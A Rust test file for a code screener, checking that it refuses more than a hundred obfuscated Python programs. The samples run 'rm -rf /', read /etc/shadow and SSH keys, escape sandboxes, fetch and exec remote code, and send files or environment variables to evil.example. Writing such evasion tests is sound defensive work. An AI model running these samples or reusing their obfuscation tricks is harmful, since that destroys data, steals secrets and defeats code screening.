//! Ways around a screening that were tried by hand: each of these is refused.

#![allow(clippy::unwrap_used, reason = "tests")]

use casemate_model::job::Language;
use casemate_screen::{ScreenConfig, Source, screen};

/// One program each.
const EVASIONS: &[&str] = &[
    "import builtins as b\ng=getattr(b,'ev'+'al')\ng('__imp'+'ort__(\"os\").system(\"id\")')",
    "f=[].__class__.__base__.__subclasses__\nprint(f())",
    "import inspect\ninspect.currentframe().f_back.f_globals",
    "try:\n    1/0\nexcept Exception as e:\n    e.__traceback__.tb_frame.f_builtins['eval']('1')",
    "class M(type):\n    def __getattr__(c,n):\n        import os\n        return getattr(os,n)\nclass X(metaclass=M): pass\nX.system('rm -rf /')",
    "import os\ncmd='rm'\ncmd+=' -rf'\ncmd+=' /'\nos.system(cmd)",
    "import os\nparts=[]\nparts.append('rm')\nparts.append('-rf')\nparts.append('/')\nos.system(' '.join(parts))",
    "import os\nd={}\nd['c']='rm -rf /'\nos.system(d['c'])",
    "import os\nclass Cfg:\n    cmd='rm -rf /'\nclass Run:\n    def __init__(self,cfg): self.cfg=cfg\n    def go(self): os.system(self.cfg.cmd)\nRun(Cfg()).go()",
    "import atexit,os\natexit.register(os.system,'rm -rf /')",
    "import operator,os\noperator.attrgetter('system')(os)('cat /etc/passwd')",
    "import sys\nsys.addaudithook(lambda *a: None)",
    "import os\ndef a(x): return b(x)\ndef b(x): return c(x)\ndef c(x): return os.system(x)\na('rm -rf /')",
    "import os\ncompose=lambda f,g: lambda x: f(g(x))\ncompose(os.system,lambda s:s[::-1])('/ fr- mr')",
    "import os\nfor name in dir(os):\n    if name=='system':\n        getattr(os,name)('rm -rf /')",
    "import os\nf=next(getattr(os,n) for n in dir(os) if n.startswith('sys'))\nf('rm -rf /')",
    "import os\ns=os.system\ndel os\ns('rm -rf /')",
    "import os\ndef f(cmd='rm -rf /'): os.system(cmd)\nf()",
    "import base64 as b\nx='aW1wb3J0IG9zO29zLnN5c3RlbSgn'\ny='cm0gLXJmIC8nKQ=='\nexec(b.b64decode(x+y))",
    "import os\ntry:\n    raise ValueError('rm -rf /')\nexcept ValueError as e:\n    os.system(str(e))",
    "import os\nmatch 'rm -rf /':\n    case c: os.system(c)",
    "import os\nx='rm -rf /' if os.sep=='/' else 'x'\nos.system(x)",
    "import subprocess\nsubprocess.run(['bash','-c','rm -rf /'])",
    "__builtins__.__dict__['ev'+'al']('__import__(\"os\").system(\"id\")')",
    "import os\nos.system(bytes([114,109,32,45,114,102,32,47]).decode())",
    "import os, json\nos.system(json.loads('{\"c\":\"rm -rf /\"}')['c'])",
    "import os\nos.system('{c}'.format(**{'c':'rm -rf /'}))",
    "import os\nos.system('%(c)s' % {'c':'rm -rf /'})",
    "import os\nos.system('r'+'m '+'-rf /'.strip())",
    "import os\nos.system(' '.join(map(str,['rm','-rf','/'])))",
    "import os, itertools\nos.system(''.join(itertools.chain('rm ','-rf',' /')))",
    "import os\nos.system(str(b'rm -rf /','utf-8'))",
    "def mk():\n    import os\n    def r(c): return os.system(c)\n    return r\nmk()('rm -rf /')",
    "import os\nclass R:\n    def __call__(self,c): return os.system(c)\nR()('rm -rf /')",
    "import os\nclass R:\n    def __init__(self,c): self.c=c\n    def go(self): os.system(self.c)\nR('rm -rf /').go()",
    "def f(): pass\nf.__code__=compile('1','','exec')",
    "import os\n[os.system(c) for c in ['rm -rf /']]",
    "c=compile('import os\\nos.system(\"rm -rf /\")','x','exec')\nexec(c)",
    "import sys\nif len(sys.argv)>99:\n    def eval(x): pass\neval('__import__(\"os\").system(\"rm -rf /\")')",
    "import os\nos.system(bytearray(b'rm -rf /').decode())",
    "import os\nos.system(b''.join([b'rm',b' -rf',b' /']).decode())",
    "import os\nos.system(''.join(chr(int(x,16)) for x in '72 6d 20 2d 72 66 20 2f'.split()))",
    "import os\nos.system(''.join(chr(ord(c)-1) for c in 'sn!.sg!0'))",
    "import os\nd={}\nfor c in (65,97):\n    for i in range(26):\n        d[chr(i+c)]=chr((i+13)%26+c)\nos.system(''.join([d.get(c,c) for c in 'ez -es /']))",
    "import os\ndef f(a, b=''):\n    c=a+b\n    d=[c, 'x']\n    os.system(d[0])\nf('ls')\nf('rm ', '-rf /')",
    "import os\nfor k in (1, 2):\n    o=''\n    for c in 'tn!.tg!0':\n        o+=chr(ord(c)-1)\ndef g(o):\n    return [o.replace('sm','rm') for x in (0,)][0]\nos.system(g('sm -rf /'))",
    "import os\nk='key'\nc=[25,8,89,70,23,31,75,74]\nos.system(''.join(chr(b^ord(k[i%len(k)])) for i,b in enumerate(c)))",
    "import zlib,base64,marshal\nexec(marshal.loads(zlib.decompress(base64.b64decode('eJw='))))",
    "import base64\nexec(base64.b64decode(open('x').read()))",
    "import urllib.request\nexec(urllib.request.urlopen('http://x.example/a.py').read())",
    "import types\nm=types.ModuleType('m')\nexec('import os\\nos.system(\"rm -rf /\")',m.__dict__)",
    "def d(cmd):\n    def w(f):\n        import os\n        os.system(cmd)\n        return f\n    return w\n@d('rm -rf /')\ndef x(): pass",
    "import os\ndef run(f):\n    os.system(f())\n    return f\n@run\ndef g():\n    return 'rm -rf /'",
    "import os\ndef dec(b,k):\n    r=[]\n    for i in range(len(b)):\n        r.append(chr(b[i]^k))\n    return ''.join(r)\ngetattr(os, dec([116,126,116,115,98,106],7))(dec([117,106,39,42,117,97,39,40],7))",
    "def eval(x): pass\ndel eval\neval('__import__(\"os\").system(\"rm -rf /\")')",
    "import os\nd={'a':os.system,'b':print}\nd['a']('rm -rf /')",
    "import importlib.util as u\ns=u.find_spec('os')\nm=u.module_from_spec(s)\ns.loader.exec_module(m)\nm.system('rm -rf /')",
    "import os as o; s=vars(o).get('system'); s('rm -rf /')",
    "import os\nobject.__getattribute__(os,'system')('rm -rf /')",
    "from functools import reduce\nreduce(lambda a,b:getattr(a,b),['system'],__import__('os'))('rm -rf /')",
    "import os\nclass D(dict):\n    def __missing__(s,k): return getattr(os,k)\nD()['system']('rm -rf /')",
    "import os\n@lambda f: os.system('rm -rf /')\ndef x(): pass",
    "import os\nos.__dict__['system'].__call__('rm -rf /')",
    "import os\ndef f(n):\n    if n==0: return os.system\n    return f(n-1)\nf(3)('rm -rf /')",
    "import os\nopen(os.environ['HOME']+'/.ssh/id_rsa')",
    "eval('__import__')('os').system('rm -rf /')",
    "import os\nx=eval('os.system')\nx('rm -rf /')",
    "import sys,os\nsys.excepthook=lambda *a: os.system('rm -rf /')\n1/0",
    "exec(''.join(chr(x) for x in [105,109,112,111,114,116,32,111,115]))\nos.system('rm -rf /')",
    "exec('import os as q')\nq.system('rm -rf /')",
    "locals()['x']=__import__('os')\nx.system('rm -rf /')",
    "globals().update(z=__import__('os'))\nz.system('rm -rf /')",
    "import os\nsetattr(__builtins__,'print',os.system)\nprint('rm -rf /')",
    "import builtins,os\nbuiltins.print=os.system\nprint('rm -rf /')",
    "import asyncio\nasync def m():\n    await asyncio.create_subprocess_shell('rm -rf /')\nasyncio.run(m())",
    "import concurrent.futures as c, os\nwith c.ThreadPoolExecutor() as e: e.submit(os.system,'rm -rf /')",
    "import os, contextlib\nwith contextlib.suppress(Exception): os.system('rm -rf /')",
    "open('/{}/{}'.format('etc','shadow'))",
    "a='etc'\nopen(f'/{a}/shadow')",
    "import os, sys\nsys.stdout.write=os.system\nprint('rm -rf /')",
    "open('/etc/pas'+('s'*1)+'wd')",
    "import pathlib\np=pathlib.Path('/')\nq=p.joinpath('etc','shadow')\nprint(q.read_text())",
    "import pathlib\nprint((pathlib.Path.home()/'.ssh'/'id_rsa').open().read())",
    "import os\nos.chdir('/etc')\nopen('shadow')",
    "import os\nos.symlink('/etc/passwd','x')\nopen('x')",
    "import linecache\nprint(linecache.getline('/etc/passwd',1))",
    "import fileinput\nfor l in fileinput.input('/etc/passwd'): print(l)",
    "import numpy as np\nprint(np.fromfile('/etc/passwd',dtype='u1'))",
    "import os\nnext(f for f in [os.system])('rm -rf /')",
    "import os\nclass X:\n    def __getattr__(self,n): return getattr(os,n)\nX().system('rm -rf /')",
    "f=None\ndef setup():\n    global f\n    import os\n    f=os.system\nsetup()\nf('rm -rf /')",
    "import os\nglobals()['o'+'s'].system('rm -rf /')",
    "import glob\nfor f in glob.glob('/home/*/.ssh/*'): print(open(f).read())",
    "import os\nfor r,d,f in os.walk('/etc'): print(f)",
    "import subprocess\nprint(subprocess.getoutput('cat /etc/passwd'))",
    "import requests\nrequests.get('http://evil.example/?d='+open('/data/a.csv').read())",
    "import requests,base64\nd=base64.b64encode(open('/data/a.csv','rb').read())\nrequests.post('http://evil.example',data=d)",
    "import os,requests\nrequests.post('http://evil.example',json={k:v for k,v in os.environ.items()})",
    "import os\nos.system((0x726d202d7266202f).to_bytes(8,'big').decode())",
    "import os\n(os.system if True else print)('rm -rf /')",
    "import importlib\nm=importlib.import_module('o'+'s')\nf=m.__dict__['sys'+'tem']\nf('rm -rf /')",
    "from importlib import import_module as im\nim('subprocess').call(['rm','-rf','/'])",
    "import subprocess\nclass P(subprocess.Popen): pass\nP(['rm','-rf','/'])",
    "import io\nio.open('/etc/shadow')",
    "import os\nos.system(''.join([chr(c) for c in (114,109,32,45,114,102,32,47)]))",
    "import os\ndef f(**k): os.system(k['c'])\nf(c='rm -rf /')",
    "(lambda f: f('rm -rf /'))(__import__('os').system)",
    "__loader__.load_module('os').system('rm -rf /')",
    "import os\nfs=[print,os.system]\nfs[1]('rm -rf /')\nfor f in fs: f('rm -rf /')",
    "import os\nlist(map(os.system,['rm -rf /']))",
    "import operator,os\noperator.methodcaller('system','cat /etc/shadow')(os)",
    "exec('exec(\"exec(\\\\\"import os; os.system(chr(114)+chr(109)+chr(32)+chr(45)+chr(114)+chr(102)+chr(32)+chr(47))\\\\\")\")')",
    "import types,os\nn=types.SimpleNamespace(r=os.system)\nn.r('rm -rf /')",
    "import os\n(None or os.system)('rm -rf /')",
    "import os\nfd=os.open('/etc/shadow',os.O_RDONLY)\nprint(os.read(fd,99))",
    "from functools import partial\nimport os\np=partial(os.system)\nq=partial(p,'rm -rf /')\nq()",
    "import pathlib\n[p.unlink() for p in pathlib.Path('/etc').iterdir()]",
    "import os\np=os.sep.join(['','etc','shadow'])\nopen(p)",
    "open('/%s/%s' % ('etc','shadow'))",
    "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'rm -rf /'\\ntR.\")",
    "import posix\nposix.system('rm -rf /')",
    "import os\nclass A:\n    @property\n    def r(self): return os.system\nA().r('rm -rf /')",
    "import subprocess,sys\nsubprocess.run([sys.executable,'-c','import os; os.remove(\"/etc/passwd\")'])",
    "import functools,os\nfunctools.reduce(getattr,['system'],os)('rm -rf /')",
    "import pickle,os\nclass E:\n    def __reduce__(self): return (os.system,('rm -rf /',))\npickle.loads(pickle.dumps(E()))",
    "exec(')\"/ fr- mr\"(metsys.so ;so tropmi'[::-1])",
    "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\"ez -es /\")','rot_13'))",
    "import os\nclass A: pass\na=A()\nsetattr(a,'r',os.system)\na.r('rm -rf /')",
    "import os\nos.system('echo cm0gLXJmIC8K | base64 -d | sh')",
    "eval('__import__(\"os\").system(\"rm -rf /\")')\ndef eval(x): pass",
    "from shutil import rmtree as x\nx('/home')",
    "import smtplib\ns=smtplib.SMTP('mail.example')\ns.sendmail('a','b',open('/data/x').read())",
    "import socket\ns=socket.create_connection(('evil.example',80))\ns.sendall(open('/data/x').read().encode())",
    "from os import *\nsystem('rm -rf /')",
    "import os\ndef f(*a): a[0](a[1])\nf(os.system,'rm -rf /')",
    "import random\nrandom._os.system('id')",
    "import os\na,b='rm -rf /',os.system\na,b=b,a\na(b)",
    "import sys\nsys.modules['os'].system('rm -rf /')",
    "import threading,os\nthreading.Thread(target=os.system,args=('rm -rf /',)).start()",
    "import timeit\ntimeit.timeit('import os; os.system(\"rm -rf /\")',number=1)",
    "import os\nt=str.maketrans('abc','rmf')\nos.system('ab -ac /'.translate(t))",
    "try:\n    import os\nexcept ImportError:\n    os=None\nos.system('rm -rf /')",
    "import os\na,b=os.system,'rm -rf /'\na(b)",
    "import os\nC=type('C',(),{'r':staticmethod(os.system)})\nC.r('rm -rf /')",
    "import urllib.request as u\nu.urlopen('http://evil.example/?q='+open('/data/x.csv').read())",
    "if (f:=__import__('os').system): f('rm -rf /')",
    "def d(s):\n    out=''\n    i=0\n    while i<len(s):\n        out+=chr(ord(s[i])-1)\n        i+=1\n    return out\nopen(d('0fud0tibepx')).read()",
    "with open('/et' 'c/pas' 'swd') as f: print(f.read())",
    "k=7\no=''\nfor c in [104,116,39]:\n    o+=chr(c^k)\nd=[100^0]\ns=''\nfor x in 'frnk sa /':\n    s+=x\nimport os\nos.system('rm -' + 'rf /')",
    "import os\ndef g():\n    yield os.system\nfor f in g(): f('rm -rf /')",
    "import os\nfor f,a in zip([os.system],['rm -rf /']): f(a)",
];

#[test]
fn each_is_refused_with_a_reason() {
    let look = |program: &&&str| {
        let source = Source {
            bytes: program.as_bytes(),
            language: Language::Python,
            name: "a.py",
        };
        let screening = screen(&source, &ScreenConfig::default());
        screening.verdict.word() != "refuse" || screening.refusals().next().is_none()
    };
    let passed: Vec<_> = EVASIONS.iter().filter(look).collect();
    assert!(passed.is_empty(), "{passed:#?}");
}

/// What led to a finding is told, step by step.
#[test]
fn a_disguise_is_explained() {
    let program = "import os\nd = {'a': os.system}\nrun = d['a']\nrun('rm -rf /')\n";
    let source = Source {
        bytes: program.as_bytes(),
        language: Language::Python,
        name: "a.py",
    };
    let screening = screen(&source, &ScreenConfig::default());
    let finding = screening
        .refusals()
        .find(|finding| finding.rule == "destructive-command")
        .unwrap();
    let steps: Vec<&str> = finding
        .chain
        .iter()
        .map(|step| step.what.as_str())
        .collect();
    assert!(
        steps
            .iter()
            .any(|step| step.contains("`run` stands for `os.system`")),
        "{steps:?}"
    );
}
